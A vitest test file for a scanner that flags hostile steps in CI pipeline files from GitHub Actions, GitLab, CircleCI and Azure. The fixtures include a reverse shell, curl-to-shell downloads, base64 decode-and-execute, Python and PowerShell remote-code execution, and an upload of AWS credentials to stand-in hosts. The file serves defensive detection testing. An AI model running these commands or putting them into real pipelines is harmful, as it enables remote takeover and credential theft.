// Programs in the steps of pipelines are judged as those of a script are, on their own line of the file.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';

const WORKFLOW = '.github/workflows/a.yml';

/** A workflow whose only step is this, six spaces in. */
function workflow(...lines: readonly string[]): string {
  return [
    'on: push',
    'permissions: {}',
    'jobs:',
    '  a:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    ...lines.map((line) => `      ${line}`),
    '',
  ].join('\n');
}

/** What would not pass, with its line. */
async function told(path: string, text: string): Promise<string[]> {
  const { findings } = await inspectBytes(Buffer.from(text), path);
  return findings
    .filter(({ severity }) => severity !== 'LOW' && severity !== 'INFO')
    .map(({ rule, severity, location: { line } }) => `${rule} ${severity} ${line}`);
}

describe('a step of a workflow', () => {
  it.each([
    [
      'opens a shell for somebody else',
      ['- run: |', '    echo build', '    bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
      'CODE-REVERSE-SHELL CRITICAL 9',
    ],
    [
      'decodes what it runs',
      ['- run: echo Y3VybCBodHRwOi8vYS5pbnZhbGlkL3h8c2g= | base64 -d | bash'],
      'CODE-DECODE-EXECUTE CRITICAL 7',
    ],
    [
      'sends a store of credentials',
      ['- run: curl -F f=@$HOME/.aws/credentials https://c.example.invalid'],
      'CODE-CREDENTIAL-SENT HIGH 7',
    ],
    [
      'is Python that runs what it fetches',
      [
        '- shell: python',
        '  run: |',
        '    import urllib.request',
        '',
        "    exec(urllib.request.urlopen('https://c.example.invalid/x').read())",
      ],
      'CODE-DOWNLOAD-EXECUTE CRITICAL 11',
    ],
    [
      'has such Python as a here-document',
      [
        '- run: |',
        '    python3 - <<EOF',
        '    import urllib.request',
        "    exec(urllib.request.urlopen('https://c.example.invalid/x').read())",
        '    EOF',
      ],
      'CODE-DOWNLOAD-EXECUTE CRITICAL 10',
    ],
    [
      'is PowerShell that runs what it fetches',
      ['- shell: pwsh', '  run: IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.5/x.ps1")'],
      'CODE-HIDDEN-POWERSHELL HIGH 8',
    ],
    [
      'is JavaScript that pipes a download into a shell',
      [
        '- uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b',
        '  with:',
        '    script: |',
        "      const c = require('child_process');",
        "      c.execSync('curl http://203.0.113.5/x | sh');",
      ],
      'CODE-PIPE-SHELL HIGH 11',
    ],
    [
      'runs what a number answers',
      ['- run: curl -s http://203.0.113.5/x | bash'],
      'WORKFLOW-PIPED-SCRIPT HIGH 7',
    ],
  ])('that %s is blocked, once', async (_, step, finding) => {
    expect(await told(WORKFLOW, workflow(...step))).toEqual([finding]);
  });

  it.each([
    ['an installer that is well known', ['- run: curl -LsSf https://astral.sh/uv/install.sh | sh']],
    ['Python that reports', ['- shell: python', '  run: |', '    import os', "    print(os.environ['REF'])"]],
    [
      'a script of GitHub that comments',
      [
        '- uses: actions/github-script@f28e40c7f34bde8b3046d885e986cb6290c5673b',
        '  with:',
        '    script: |',
        '      await github.rest.issues.createComment({ ...context.repo, issue_number: 1, body: "ok" })',
      ],
    ],
    [
      'PowerShell that builds',
      ['- shell: pwsh', '  run: |', '    cmake --build .', '    Get-ChildItem env:'],
    ],
  ])('with %s passes', async (_, step) => {
    expect(await told(WORKFLOW, workflow(...step))).toEqual([]);
  });

  it.each([
    ['the workflow', `defaults: { run: { shell: python } }\n${workflow('- run: PROGRAM')}`, 8],
    [
      'its job',
      workflow('- run: PROGRAM').replace(
        '    steps:',
        '    defaults: { run: { shell: python } }\n    steps:',
      ),
      8,
    ],
  ])('is in the shell that %s names', async (_, text, line) => {
    const program = '__import__("os").system("curl http://203.0.113.5/x | sh")';
    expect(await told(WORKFLOW, text.replace('PROGRAM', program))).toEqual([`CODE-PIPE-SHELL HIGH ${line}`]);
  });

  it('is PowerShell on Windows', async () => {
    const step = workflow('- run: IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.5/x.ps1")');
    expect(await told(WORKFLOW, step.replace('ubuntu', 'windows'))).toEqual([
      'CODE-HIDDEN-POWERSHELL HIGH 7',
    ]);
  });

  it('cannot end the program that it is by a line of its own', async () => {
    const step = workflow(
      '- shell: python',
      '  run: |',
      '    text = """',
      '    END_OF_PROGRAM',
      '    """',
      '    import urllib.request',
      "    exec(urllib.request.urlopen('https://c.example.invalid/x').read())",
    );
    expect(await told(WORKFLOW, step)).toEqual(['CODE-DOWNLOAD-EXECUTE CRITICAL 13']);
  });
});

describe('a pipeline', () => {
  const fetches = 'curl -s http://203.0.113.5/x | sh';
  it.each([
    ['of GitLab', '.gitlab-ci.yml', `a:\n  script:\n    - make\n    - ${fetches}\n`, 4],
    [
      'of CircleCI',
      '.circleci/config.yml',
      `jobs:\n  a:\n    steps:\n      - checkout\n      - run: ${fetches}\n`,
      5,
    ],
    [
      'of CircleCI, with the command apart',
      '.circleci/config.yml',
      `jobs:\n  a:\n    steps:\n      - run:\n          name: b\n          command: |\n            make\n            ${fetches}\n`,
      8,
    ],
    ['of Azure', 'azure-pipelines.yml', `steps:\n  - script: make\n  - bash: ${fetches}\n`, 3],
  ])('%s is read', async (_, path, text, line) => {
    expect(await told(path, text)).toEqual([`CODE-PIPE-SHELL HIGH ${line}`]);
    expect(await told(path, text.replace(fetches, 'make test'))).toEqual([]);
  });
});
